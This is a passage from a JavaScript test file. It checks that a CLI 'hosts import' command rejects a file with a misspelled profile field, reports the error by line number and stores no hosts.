   assert.equal(await runCli(['hosts', 'import', file, ...flags], io), 1);
   assert.match(err.join('\n'), /line 2: params\.timezon\.name: not a field of the profile/);
   assert.equal(env.core.hosts.list().length, 0);
